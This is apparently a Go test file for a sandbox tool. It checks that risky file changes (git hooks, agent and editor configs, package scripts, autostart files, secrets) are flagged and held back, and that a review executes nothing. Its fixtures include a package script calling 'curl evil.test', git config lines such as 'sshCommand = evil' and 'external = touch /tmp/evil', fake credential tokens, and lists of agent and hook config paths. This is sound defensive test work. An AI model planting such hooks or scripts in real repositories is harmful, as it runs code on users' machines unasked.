package workspace

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/jail-sandbox/jail/policy"
	"github.com/jail-sandbox/jail/policy/secret"
)

func riskOf(t *testing.T, w *Workspace, path string) []string {
	t.Helper()
	for _, c := range changesOf(t, w) {
		if string(c.Path) == path {
			var out []string
			for _, r := range c.Risks {
				text := string(r.Class)
				if r.Hold {
					text += "!"
				}
				if !slices.Contains(out, text) {
					out = append(out, text)
				}
			}
			return out
		}
	}
	t.Errorf("%s is no change", path)
	return nil
}

// T-340, T-311, T-347, T-348: what the content and the neighbours of a change say about it.
func TestRisks(t *testing.T) {
	f := newFixture(t)
	f.write("readme", "script.sh", "old-elf", "lib", "secretive", "shared", "bare/HEAD",
		"bare/objects/", "bare/refs/heads", "bare/hooks/", "gone", "Straße")
	must(t, os.WriteFile(f.real+"/script.sh", []byte("#!/bin/sh\n"), 0o755))
	must(t, os.WriteFile(f.real+"/old-elf", []byte("\x7fELF old"), 0o755))
	must(t,
		os.WriteFile(f.real+"/secretive", []byte("key ghp_"+strings.Repeat("a1", 18)+"\n"), 0o644))
	must(t, os.Link(f.real+"/shared", f.real+"/shared2"))
	script := `set -e
		echo x >README; echo x >plain; echo x >run; chmod +x run; printf '\177ELF' >script.sh; printf '\177ELF new' >old-elf
		printf '\0asm\1\0\0\0' >m.bin; ln -s ../up out; ln -s plain in; echo 'AKIA` + `ABCDEFGHIJKLMNOP' >k; echo more >>secretive
		echo x >>shared; echo x >h1; ln h1 h2; mkdir -p repo/objects repo/refs; echo 'ref: x' >repo/HEAD; printf '[core]\n\tfsmonitor = evil\n' >repo/config
		echo x >bare/hooks/post-update; printf '[core]\n\tsshCommand = evil\n' >innocent; rm gone; echo x >GONE; printf '\357\275\215\n' >ok
		chmod 4755 lib; mkdir -p .git/hooks; echo x >.git/hooks/pre-commit; echo x >STRASSE; echo x >cafe; printf x >"$(printf 'e\314\201')"; printf x >"$(printf '\303\251')"`
	w := f.shadow("r1", script)
	for path, want := range map[string]string{
		"README": "fold", "plain": "", "run": "executable", "script.sh": "binary executable",
		"old-elf": "", "m.bin": "binary", "out": "link!", "in": "",
		"k": "secret", "secretive": "", "shared": "split", "h1": "split", "h2": "split",
		"repo/HEAD": "hooks!", "repo/config": "hooks!", "repo/objects": "hooks!",
		"bare/hooks/post-update": "hooks!", "innocent": "hooks!", "GONE": "", "gone": "", "ok": "",
		"cafe": "", "lib": "executable",
		".git/hooks/pre-commit": "hooks!", "e\u0301": "fold", "\u00e9": "fold",
	} {
		got := strings.Join(riskOf(t, w, path), " ")
		if path == "lib" {
			got = strings.TrimPrefix(got, "set-id ")
		}
		if got != want {
			t.Errorf("%q has the risks %q, want %q", path, got, want)
		}
	}
	r, err := w.Commit(t.Context(), CommitOptions{})
	must(t, err)
	held := map[string]bool{}
	for _, h := range r.Held {
		held[string(h.Path)] = true
	}
	for _, path := range []string{"out", "repo", "innocent", "bare/hooks/post-update",
		".git/hooks/pre-commit"} {
		if _, err := os.Lstat(filepath.Join(f.real, path)); err == nil || !held[path] {
			t.Errorf("%s was not held back", path)
		}
	}
	if _, err := os.Lstat(filepath.Join(f.real, "plain")); err != nil {
		t.Errorf("control: %v", err)
	}
	_, err = w.Commit(t.Context(),
		CommitOptions{Paths: []Name{"innocent", "out"}, IncludeProtected: true})
	must(t, err)
	if _, err := os.Lstat(filepath.Join(f.real, "innocent")); err != nil {
		t.Errorf("named, and not committed: %v", err)
	}
}

// T-340 to T-347, T-311: names that the host runs or obeys, each in its class, also by the names
// that other file systems take for the same.
func TestRiskClassesOfNames(t *testing.T) {
	for class, names := range map[policy.Class]string{
		policy.Hooks: `.git/hooks/pre-commit .git/config sub/.git/config .git/config.worktree .gitattributes .gitmodules .git/modules/x/config .git/worktrees/x/gitdir
			.git/info/attributes .GIT/hooks/x .g\u200cit/config git~1/hooks/x \uff0egit/config .hg/hgrc .husky/pre-push .pre-commit-config.yaml lefthook.yml`,
		policy.Editor: `.vscode/tasks.json .vscode/settings.json .vscode/launch.json .idea/workspace.xml x.code-workspace .devcontainer/devcontainer.json .devcontainer.json
			.vim/ftplugin/x.vim .vimrc .exrc .nvim.lua .dir-locals.el .editorconfig .zed/tasks.json .gdbinit`,
		policy.Agent: `.claude/settings.json .mcp.json .codex/config.toml .cursor/mcp.json .cursorrules .gemini/settings.json .opencode/x AGENTS.md CLAUDE.md sub/AGENTS.md
			.agents/skills/x/SKILL.md GEMINI.md .windsurf/x .aider.conf.yml .github/copilot-instructions.md agents.MD .kiro/hooks/x`,
		policy.Shell:     `.envrc .bashrc .bash_profile .profile .zshenv .zshrc .pam_environment mise.toml .mise.toml .tool-versions .inputrc .config/fish/config.fish .tmux.conf`,
		policy.Autostart: `x.desktop .config/systemd/user/x.service .config/autostart/x .ssh/authorized_keys .ssh/config crontab .local/bin/ls .netrc .gnupg/gpg.conf`,
		policy.PackageManager: `package.json .npmrc .yarnrc .yarnrc.yml .pnpmfile.cjs setup.py setup.cfg pyproject.toml conftest.py sitecustomize.py x.pth .venv/bin/python build.rs
			.cargo/config.toml go.mod go.work Gemfile Makefile CMakeLists.txt gradle/wrapper/gradle-wrapper.jar .mvn/extensions.xml gradlew composer.json justfile`,
		policy.CI: `.github/workflows/x.yml .github/actions/x/action.yml .gitlab-ci.yml Jenkinsfile .circleci/config.yml Dockerfile Dockerfile.dev compose.yaml docker-compose.yml
			.travis.yml azure-pipelines.yml .drone.yml .buildkite/pipeline.yml`,
		policy.Binary: `x.so lib/y.so x.wasm x.exe x.jar`,
		Plain:         `readme.md src/main.go .gitignore .github/CODEOWNERS git/config hooks/pre-commit config HEAD data.json makefile.txt`,
	} {
		for name := range strings.FieldsSeq(names) {
			path, err := ParseName(name)
			must(t, err)
			c := Change{Path: path}
			c.nameRisks()
			if !c.has(class) {
				t.Errorf("%s: %+v, want %s", name, c.Risks, class)
			}
			hold := len(c.Risks) > 0 && c.Risks[0].Hold
			_, protected := policy.Protected(string(path))
			if hold != protected {
				t.Errorf("%s: hold %v, protected %v", name, hold, protected)
			}
		}
	}
}

// T-344: what a package manager would run is told by what it was and what it is, whatever else
// changed.
func TestScriptsOfPackages(t *testing.T) {
	f := newFixture(t)
	must(t, os.WriteFile(filepath.Join(f.real, "package.json"),
		[]byte(`{"name": "x", "scripts": {"test": "node --test", "old": "true", "same": "x"}}`),
		0o644))
	w := f.shadow("w", `printf '{"bin": "./cli.js", "scripts": {"same": "x", "test": "node --test; curl evil.test", "postinstall": ["odd\\u001b"]}}' >package.json
mkdir -p sub; printf '{"scripts": []' >sub/package.json; printf '{"scripts": {"x": "y"}}' >other.json`)
	got := map[string][]Script{}
	_, err := w.Show(t.Context(), ShowOptions{},
		func(c Change) error { got[string(c.Path)] = c.Scripts; return nil })
	must(t, err)
	text := func(s string) *string { return &s }
	want := map[string][]Script{"other.json": nil, "sub": nil, "sub/package.json": nil,
		"package.json": {
			{Name: "bin", After: text("./cli.js")}, {Name: "scripts.old", Before: text("true")},
			{Name: "scripts.postinstall", After: text(`["odd\u001b"]`)},
			{Name: "scripts.test", Before: text("node --test"),
				After: text("node --test; curl evil.test")}}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// T-348: a credential is found wherever it lies.
func TestSecretsInPieces(t *testing.T) {
	token := "glpat-" + strings.Repeat("x", 20)
	for _, at := range []int{0, 1, 100, 1<<20 - 10, 1<<20 - 26, 1 << 20} {
		content := bytes.Repeat([]byte("."), 2<<20)
		copy(content[at:], token)
		for _, piece := range []int{1 << 20, 1000, 200} {
			s := newScanner()
			for rest := content; len(rest) > 0; rest = rest[min(piece, len(rest)):] {
				s.Write(rest[:min(piece, len(rest))])
			}
			if got := s.fresh(nil); len(got) != 1 || got[0] != "a token of GitLab" {
				t.Errorf("at %d in pieces of %d: %v", at, piece, got)
			}
		}
	}
	for _, harmless := range []string{"glpat-short", "xAKIA" + strings.Repeat("A", 16), "AKIA12",
		"sk_live_", "-----BEGIN PUBLIC KEY-----"} {
		s := newScanner()
		fmt.Fprint(s, harmless)
		if got := s.fresh(nil); got != nil {
			t.Errorf("%q: %v", harmless, got)
		}
	}
	for _, form := range secret.Forms {
		s := newScanner()
		fmt.Fprint(s, form.Prefix+strings.Repeat("A", form.Whole))
		var want []string
		if form.Whole > 0 || form.Part == 0 {
			want = []string{form.What}
		}
		if got := s.fresh(nil); !slices.Equal(got, want) {
			t.Errorf("%s…: %v, want %v", form.Prefix, got, want)
		}
		if form.Whole == 0 {
			continue
		}
		s = newScanner()
		fmt.Fprint(s, form.Prefix+strings.Repeat("A", form.Whole-1))
		if got := s.fresh(nil); got != nil {
			t.Errorf("%s… that is too short: %v", form.Prefix, got)
		}
	}
}

func TestRenamesAreHinted(t *testing.T) {
	f := newFixture(t)
	f.write("a", "b", "empty", "same1", "d/x")
	must(t, os.WriteFile(f.real+"/empty", nil, 0o644))
	w := f.shadow("r1", `set -e; mv a z; mv d/x x2; rm empty; : >empty2; rm b; echo other >c`)
	_, _, shown := showing(t, w)
	want := []Rename{{"a", "z"}, {"d/x", "x2"}}
	if !slices.Equal(shown.Renames, want) {
		t.Errorf("got %v, want %v", shown.Renames, want)
	}
	if shown.Classes["fold"] != 0 || shown.Deleted != 4 {
		t.Errorf("%+v", shown)
	}
}

// T-349, T-302: nothing of the host is executed for a review, and no name of the two trees is
// opened in a way that follows a link.
func TestReviewExecutesNothing(t *testing.T) {
	strace, err := exec.LookPath("strace")
	if err != nil {
		t.Skip("strace is not installed")
	}
	f := newFixture(t)
	f.write("a", "d/x", ".gitattributes")
	must(t, os.Mkdir(f.real+"/.git", 0o755))
	must(t, os.WriteFile(f.real+"/.git/config", []byte("[diff]\n\texternal = touch /tmp/evil\n"),
		0o644))
	w := f.shadow("r1", `echo x >>a; ln -s /etc evil; echo y >d/y; mkfifo pipe`)
	must(t, w.Keep())
	must(t, w.Close())
	trace := filepath.Join(t.TempDir(), "trace")
	cmd := exec.Command(strace, "-f", "-qq", "-o", trace, "-e",
		"trace=execve,execveat,open,openat,openat2,stat,lstat,newfstatat,fork,vfork",
		"/proc/self/exe")
	cmd.Args[len(cmd.Args)-1] = testBinary(t)
	cmd.Env = append(os.Environ(), reviewEnv+"="+f.dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	} else if !strings.Contains(string(out), "+x") {
		t.Fatalf("control: the review showed nothing: %s", out)
	}
	text, err := os.ReadFile(trace)
	must(t, err)
	execs, beneath := 0, 0
	begun := false
	for line := range strings.Lines(string(text)) {
		if strings.Contains(line, "execve") {
			execs++
		}
		begun = begun || strings.Contains(line, "meta.json")
		if !begun {
			continue
		}
		if strings.Contains(line, "openat2(") {
			if !strings.Contains(line, "RESOLVE_NO_SYMLINKS") {
				t.Errorf("follows links: %s", line)
			}
			beneath++
			continue
		}
		for _, name := range []string{f.real + "/", "\"evil\"", "\"pipe\"", "\"a\"", "\"x\""} {
			if strings.Contains(line, name) && !strings.Contains(line, "AT_SYMLINK_NOFOLLOW") {
				t.Errorf("by name: %s", line)
			}
		}
	}
	if execs != 1 || beneath < 5 {
		t.Errorf("%d programs were executed, want the test itself; %d opens beneath a directory",
			execs, beneath)
	}
}

const reviewEnv = "JAIL_WORKSPACE_TEST_REVIEW"

func testBinary(t *testing.T) string {
	t.Helper()
	path, err := os.Executable()
	must(t, err)
	return path
}
